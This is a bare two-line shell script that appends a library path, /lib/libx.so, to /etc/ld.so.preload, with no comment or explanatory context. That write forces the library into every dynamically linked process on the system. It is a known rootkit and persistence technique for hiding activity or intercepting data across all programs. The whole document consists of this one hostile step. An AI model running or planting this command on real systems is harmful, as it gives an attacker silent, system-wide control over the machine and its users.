#!/bin/sh
echo /lib/libx.so | tee -a /etc/ld.so.preload >/dev/null
